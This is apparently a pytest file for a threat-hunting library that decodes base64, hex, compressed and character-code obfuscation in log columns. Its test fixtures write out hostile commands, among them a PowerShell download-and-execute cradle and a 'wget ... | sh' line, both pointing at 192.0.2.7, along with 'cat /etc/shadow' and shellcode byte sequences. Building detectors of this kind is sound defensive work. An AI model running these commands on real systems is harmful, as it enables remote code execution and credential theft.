"""What is decoded, what is not, and what the table looks like."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import sys
import uuid
import zipfile
import zlib

import pandas as pd
import polars as pl
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from huntbook.analytics._decode.prefilter import candidates
from huntbook.analytics._decode.walk import decode_cell
from huntbook.analytics.decode import decode
from huntbook.errors import ColumnMissing, ParameterError

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"
RUSSIAN = "Запустить программу и удалить журнал событий"
CHINESE = "下载并运行这个程序然后删除系统日志中的所有记录以及备份文件"


def b64(data: bytes | str) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def utf16(text: str) -> str:
    return b64(text.encode("utf-16-le"))


def rows(text: str) -> list[tuple[int, str, str]]:
    found = decode(pl.DataFrame({"line": [text]}), "line")
    return [(row["depth"], row["encoding"], row["decoded"]) for row in found.to_dicts()]


def only(text: str) -> tuple[str, str]:
    found = rows(text)
    assert len(found) == 1, found
    return found[0][1], found[0][2]


@pytest.mark.parametrize(
    "switch", ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "\u2013enc", "-eNcOdEdC", "-enc:"]
)
def test_encoded_command_in_every_spelling(switch: str) -> None:
    assert only(f"powershell.exe -nop {switch} {utf16(SCRIPT)}") == ("base64+utf-16-le", SCRIPT)


def test_short_command_in_a_context_that_decodes() -> None:
    assert only(f'pwsh -enc "{utf16("whoami")}"') == ("base64+utf-16-le", "whoami")
    assert only(f"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('net user')}'))")[1] == "net user"
    assert only(f"echo {b64('id; uname -a')} | base64 -d | sh")[1] == "id; uname -a"
    assert only(f"base64 --decode <<< {b64('cat /etc/shadow')}")[1] == "cat /etc/shadow"
    assert only(f'eval(atob("{b64("alert(1)")}"))')[1] == "alert(1)"
    assert only(f"exec(base64.b64decode(b'{b64('import os')}'))")[1] == "import os"
    assert only(f"Authorization: Basic {b64('admin:hunter2')}")[1] == "admin:hunter2"


def test_encoded_command_of_a_renamed_powershell() -> None:
    assert only(f"C:\\Temp\\update.exe -e {utf16('whoami')}") == ("base64+utf-16-le", "whoami")


def test_short_run_without_a_context_is_left_alone() -> None:
    assert rows(f"update.exe {b64('net user')}") == []


@pytest.mark.parametrize(
    ("text", "encoding", "name"),
    [
        (SCRIPT, "utf-8", "utf-8"),
        (SCRIPT, "utf-16-le", "utf-16-le"),
        (SCRIPT, "utf-16-be", "utf-16-be"),
        (SCRIPT, "utf-16", "utf-16-le"),
        (RUSSIAN, "utf-8", "utf-8"),
        (RUSSIAN, "utf-16-le", "utf-16-le"),
        (CHINESE, "utf-16-le", "utf-16-le"),
        (CHINESE, "utf-16-be", "utf-16-be"),
        ("Der Schlüssel für den Zugang liegt unter der Fußmatte", "cp1252", "cp1252"),
    ],
)
def test_encoding_is_found_out_by_content(text: str, encoding: str, name: str) -> None:
    data = text.encode(encoding)
    assert b"\0" not in CHINESE.encode("utf-16-le")
    assert only(f"x = FromBase64String('{b64(data)}')") == (f"base64+{name}", text)
    if len(data) > 60:
        assert only(f"set payload={b64(data)}") == (f"base64+{name}", text)


def test_url_safe_and_unpadded() -> None:
    text = "what?? is this >>> nothing but ~~~ text, or is it???"
    standard = b64(text)
    safe = base64.urlsafe_b64encode(text.encode()).decode()
    assert "/" in standard
    assert "_" in safe
    for run in (standard, safe, standard.rstrip("="), safe.rstrip("=")):
        assert only(f"GET /x?data={run}") == ("base64+utf-8", text)


def test_piece_of_a_path() -> None:
    assert only(f"https://example.com/download/{b64(SCRIPT)}")[1] == SCRIPT


@pytest.mark.parametrize("join", ["'+'", "' + '", '"+"', '" & "', "^", "`", '" & _\r\n  "'])
def test_broken_by_quotes_and_escapes(join: str) -> None:
    whole = utf16(SCRIPT)
    broken = join.join(whole[at : at + 9] for at in range(0, len(whole), 9))
    found = decode(pl.DataFrame({"line": [f"$x='{broken}';iex $x"]}), "line").to_dicts()
    assert [(row["encoded"], row["decoded"]) for row in found] == [(broken, SCRIPT)]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\\n", "\\r\\n", " \\\n".strip(" "), "\n    "])
def test_broken_into_lines(end: str) -> None:
    whole = utf16(SCRIPT)
    broken = end.join(whole[at : at + 76] for at in range(0, len(whole), 76))
    found = decode(pl.DataFrame({"line": [f'"{broken}"']}), "line").to_dicts()
    assert [(row["encoded"], row["decoded"]) for row in found] == [(broken, SCRIPT)]


def test_line_after_a_command_is_not_part_of_it() -> None:
    whole = utf16(SCRIPT * 3).rstrip("=")
    assert only(f"CommandLine: powershell -enc {whole}\nCurrentDirectory: C:\\\nUser: me")[1] == SCRIPT * 3


def test_text_around_encoded_text_that_repeats() -> None:
    found = decode(pl.DataFrame({"line": [f"a {b64(SCRIPT)} b {b64(SCRIPT[::-1])} c"]}), "line")
    assert found["decoded"].to_list() == [SCRIPT, SCRIPT[::-1]]


def test_nested_in_order_and_no_deeper_than_allowed() -> None:
    inner = f"powershell -enc {utf16(SCRIPT)}"
    outer = f"sh -c 'echo {b64(inner)} | base64 -d'"
    assert rows(outer) == [(1, "base64+utf-8", inner), (2, "base64+utf-16-le", SCRIPT)]
    shallow = decode(pl.DataFrame({"line": [outer]}), "line", max_depth=1)
    assert shallow["depth"].to_list() == [1]


def deflate(data: bytes) -> bytes:
    engine = zlib.compressobj(wbits=-15)
    return engine.compress(data) + engine.flush()


@pytest.mark.parametrize(("pack", "name"), [(gzip.compress, "gzip"), (zlib.compress, "zlib"), (deflate, "deflate")])
def test_packed(pack: object, name: str) -> None:
    packed = pack((SCRIPT * 2).encode())  # type: ignore[operator]
    assert only(f"[IO.MemoryStream][Convert]::FromBase64String('{b64(packed)}')") == (
        f"base64+{name}+utf-8",
        SCRIPT * 2,
    )


def test_every_member_of_a_zip() -> None:
    store = io.BytesIO()
    with zipfile.ZipFile(store, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("run.ps1", SCRIPT)
        archive.writestr("run.exe", program())
    first, second = rows(f"data:application/zip;base64,{b64(store.getvalue())}")
    assert first == (1, "base64+zip+utf-8", SCRIPT)
    assert second[1] == "base64+zip/pe"
    assert "run.exe" in second[2]


def test_cut_off_gzip_says_that_it_is_damaged() -> None:
    packed = gzip.compress(bytes(f"{SCRIPT}\n{uuid.UUID(int=7)}\n" * 40, "ascii"))[:-12]
    encoding, text = only(f"FromBase64String('{b64(packed)}')")
    assert encoding == "base64+gzip+utf-8/damaged"
    assert text.startswith(SCRIPT)


def program() -> bytes:
    return b"MZ\x90\0\x03\0\0\0" + bytes(52) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(range(200))


def test_binary_is_named_not_shown() -> None:
    data = program()
    encoding, note = only(f"$b='{b64(data)}'")
    assert encoding == "base64/pe"
    assert note == f"[pe, {len(data)} bytes, sha256 {hashlib.sha256(data).hexdigest()}]"


def test_shellcode_that_decodes_itself() -> None:
    code = bytes.fromhex("ba7e881058dacdd97424f45e31c9b147") + bytes(range(100, 200))
    assert only(",".join(f"0x{byte:02x}" for byte in code))[0] == "hex/shellcode"


def test_shellcode_as_a_list_and_behind_one_key() -> None:
    code = b"\xfc\xe8\x89\0\0\0" + bytes(range(120))
    assert only("[Byte[]]$c = " + ",".join(f"0x{byte:02x}" for byte in code))[0] == "hex/shellcode"
    assert only(f"FromBase64String('{b64(bytes(byte ^ 35 for byte in code))}')")[0] == "base64/xor-shellcode"


def test_argument_that_is_no_text_is_named_and_a_guess_is_not() -> None:
    key = hashlib.sha256(b"key").digest()
    assert only(f"FromBase64String('{b64(key)}')")[0] == "base64/binary"
    assert rows(f"key={b64(key)}") == []


@pytest.mark.parametrize(
    "run",
    [
        "0x" + SCRIPT.encode().hex(),
        SCRIPT.encode().hex(),
        SCRIPT.encode().hex(" "),
        SCRIPT.encode().hex("-").upper(),
        "".join(f"\\x{byte:02x}" for byte in SCRIPT.encode()),
        ", ".join(f"0x{byte:x}" for byte in SCRIPT.encode()),
        "".join(f"%{byte:02X}" for byte in SCRIPT.encode()),
    ],
)
def test_hexadecimal(run: str) -> None:
    found = decode(pl.DataFrame({"line": [f"payload ({run}) end"]}), "line").to_dicts()
    assert [(row["encoding"], row["encoded"], row["decoded"]) for row in found] == [("hex+utf-8", run, SCRIPT)]


@pytest.mark.parametrize("mark", ["%u", "\\u"])
def test_escaped_units(mark: str) -> None:
    assert only("unescape('" + "".join(f"{mark}{ord(letter):04x}" for letter in SCRIPT) + "')") == (
        "hex+utf-16",
        SCRIPT,
    )


def test_hex_of_utf16_and_of_the_arguments_that_linux_audits() -> None:
    assert only(f"proc {SCRIPT.encode('utf-16-le').hex()}") == ("hex+utf-16-le", SCRIPT)
    assert only(f"proctitle={b'/bin/sh'.hex()}00{b'-c'.hex()}00{b'id;whoami'.hex()}")[1] == "/bin/sh -c id;whoami"


@pytest.mark.parametrize(
    "run",
    [
        "+".join(f"[char]{ord(letter)}" for letter in "whoami /all"),
        "+".join(f"[cHaR]0x{ord(letter):X}" for letter in "whoami /all"),
        "[char]119+'hoam'+[char]105+[char]32+'/all'",
        " & ".join(f"Chr({ord(letter)})" for letter in "whoami /all"),
        ".".join(f"chr({ord(letter)})" for letter in "whoami /all"),
    ],
)
def test_chain_of_character_codes(run: str) -> None:
    found = decode(pl.DataFrame({"line": [f"iex({run})"]}), "line").to_dicts()
    assert [(row["encoding"], row["encoded"], row["decoded"]) for row in found] == [("charcode", run, "whoami /all")]


@pytest.mark.parametrize(
    "line",
    [
        "String.fromCharCode({})",
        "({})|%{{[char]$_}}",
        "-join[char[]]({})",
        "[Text.Encoding]::ASCII.GetString([byte[]]({}))",
    ],
)
def test_list_of_character_codes(line: str) -> None:
    codes = ",".join(str(ord(letter)) for letter in "whoami /all")
    assert only(line.format(codes)) == ("charcode", "whoami /all")


def test_a_rule_on_decoded_text_finds_what_is_encoded() -> None:
    line = f"bash -c 'echo {b64('wget http://192.0.2.7/x.sh -O - | sh')} | base64 -d | bash'"
    assert "wget" not in line
    found = decode([{"line": "ls"}, {"line": line}], "line")
    assert found.filter(pl.col("decoded").str.contains(r"wget .*\| sh"))["row"].to_list() == [1]


def test_one_damaged_letter_keeps_what_can_be_read() -> None:
    run = utf16(SCRIPT * 2)
    encoding, text = only(f"powershell -enc {run[:100]}{run[101:]}")
    assert encoding == "base64/damaged"
    assert text.startswith(SCRIPT[:35])


HASHES = [hashlib.new(name, b"x").hexdigest() for name in ("md5", "sha1", "sha256", "sha512")]


@pytest.mark.parametrize(
    "line",
    [
        *HASHES,
        *[value.upper() for value in HASHES],
        f"MD5={HASHES[0]},SHA256={HASHES[2]}",
        str(uuid.uuid5(uuid.NAMESPACE_DNS, "example.com")),
        f"{{{str(uuid.uuid5(uuid.NAMESPACE_DNS, 'example.org')).upper()}}}",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\Modules\Microsoft.PowerShell.Management\Get-ChildItem.psd1",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\MpSignatureUpdateAvailabilityCheck.exe",
        "/usr/lib/systemd/system/multi/user/target/wants/NetworkManager/dispatcher",
        "LocalSystemNetworkRestrictedServiceHostConfigurationManagerProvider",
        "this-is-a-very-long-option-name-with-many-words=value --another_long_option_name_here",
        "S-1-5-21-3623811015-3361044348-30300820-1013",
        "2026-11-23T18:32:11.123456Z 20 21 22 23 24 25 26 27 28 29 30",
        "01:23:45:67:89:ab 00-11-22-33-44-55",
        "99999999999999999999999999999999999999999999",
        "https://example.com/%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82%20%D0%BC%D0%B8%D1%80",
        '{"name":"\\u041f\\u0440\\u0438\\u0432\\u0435\\u0442"}',
        "[char[]] sizes: 188, 164, 38, 253, 161, 46, 243, 122, 236, 253",
        "sed -e cGluZyBh/dGVzdA file; perl -e aGVsbG8h",
        "powershell -e cGluZyAx",
        "gzip -e something.tar.gz; grep -e ConfigurationManager file",
        "echo Configuration | tee ApplicationSettings",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "-----------------------------------------------------------------",
        "________________________________________________________________",
    ],
)
def test_no_row_for_what_is_not_encoded(line: str) -> None:
    assert rows(line) == []


@settings(deadline=None)
@given(
    st.binary(min_size=12, max_size=64).filter(lambda data: sum(32 <= byte < 127 for byte in data) < len(data) * 0.8)
)
def test_no_row_for_random_bytes_that_nothing_vouches_for(data: bytes) -> None:
    found = [row for row in decode_cell(f"token={b64(data)}", 3, 10**6) if row.encoding.startswith("base64+")]
    assert all(not row.decoded.isascii() for row in found)


@settings(deadline=None)
@given(st.text(st.characters(min_codepoint=32, max_codepoint=126), min_size=3, max_size=200))
def test_any_ascii_command_comes_back(text: str) -> None:
    found = decode_cell(f"powershell -enc {utf16(text)}", 1, 10**6)
    assert [row.decoded for row in found] == ([text] if text.strip() else [])


_ENCODED = [utf16(SCRIPT), b64(SCRIPT), b64(gzip.compress(SCRIPT.encode())), b64(RUSSIAN), SCRIPT.encode().hex()]
_AROUND = ["powershell ", "-enc ", "'+'", "\n", "^", " ", "'", '"', "FromBase64String(", "=", SCRIPT]
_PARTS = ["[char]65+", "\\x41\\x42", "0x41,", "%41", "41 "]
_PIECES = st.sampled_from([*_ENCODED, *_AROUND, *_PARTS])


@settings(deadline=None)
@given(st.lists(_PIECES | st.text(max_size=20), max_size=8).map("".join))
def test_prefilter_keeps_every_cell_in_which_something_is_found(text: str) -> None:
    if decode_cell(text, 1, 10**6):
        assert candidates(pl.Series([text]))["row"].to_list() == [0]


@settings(deadline=None)
@given(st.lists(_PIECES | st.text(max_size=20), max_size=8).map("".join))
def test_what_is_encoded_stands_in_the_cell_in_that_order(text: str) -> None:
    position = 0
    for row in decode_cell(text, 1, 10**6):
        at = text.find(row.encoded, position)
        assert at >= 0
        position = at + len(row.encoded) if "zip" not in row.encoding else at


def test_shape_of_the_table_and_its_kind() -> None:
    data = {"id": [1, 2, 3], "a": [None, "nothing", b64(SCRIPT)], "b": [f"x {b64(SCRIPT)}", None, f"y {b64(SCRIPT)}"]}
    found = decode(pl.DataFrame(data), ["a", "b"])
    assert found.columns == ["row", "column", "depth", "encoding", "encoded", "decoded"]
    assert found.select("row", "column").rows() == [(0, "b"), (2, "a"), (2, "b")]
    assert isinstance(decode(pl.LazyFrame(data), "a"), pl.LazyFrame)
    assert isinstance(decode(pa.table(data), "a"), pa.Table)
    frame = pd.DataFrame(data)
    result = decode(frame, "a")
    assert isinstance(result, pd.DataFrame)
    assert result["decoded"].tolist() == [SCRIPT]
    assert decode(pl.DataFrame({"a": [None, None]}), "a").height == 0
    assert decode(pl.DataFrame({"a": pl.Series([b64(SCRIPT)], dtype=pl.Categorical)}), "a").height == 1


def test_same_cell_twice_gives_the_same_rows_twice() -> None:
    found = decode(pl.DataFrame({"a": [b64(SCRIPT)] * 3}), "a")
    assert found["row"].to_list() == [0, 1, 2]


def test_wrong_use_is_said() -> None:
    frame = pl.DataFrame({"CommandLine": ["x"], "Pid": [1]})
    with pytest.raises(ColumnMissing, match="CommandLine"):
        decode(frame, "commandline")
    with pytest.raises(ParameterError, match="Pid"):
        decode(frame, "Pid")
    with pytest.raises(ParameterError, match="max_depth"):
        decode(frame, "CommandLine", max_depth=0)


def test_nothing_is_remembered_between_calls() -> None:
    def state() -> dict[str, object]:
        return {
            f"{name}.{key}": len(value)
            for name, module in list(sys.modules.items())
            if name.startswith("huntbook.analytics._decode") or name == "huntbook.analytics.decode"
            for key, value in vars(module).items()
            if isinstance(value, (dict, list, set)) and not key.startswith("__")
        }

    before = state()
    for number in range(50):
        decode([{"a": b64(f"{SCRIPT}{number}")}, {"a": f"FromBase64String('{b64(bytes(range(number, 99)))}')"}], "a")
    assert state() == before
